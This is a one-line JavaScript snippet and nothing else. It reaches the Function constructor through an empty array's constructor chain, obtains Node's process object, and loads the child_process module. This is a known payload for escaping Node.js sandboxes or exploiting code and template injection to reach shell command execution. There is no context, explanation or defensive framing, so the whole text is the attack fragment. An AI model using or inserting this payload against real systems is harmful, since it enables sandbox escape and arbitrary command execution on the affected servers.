[].constructor.constructor('return process')().mainModule.require('child_process');
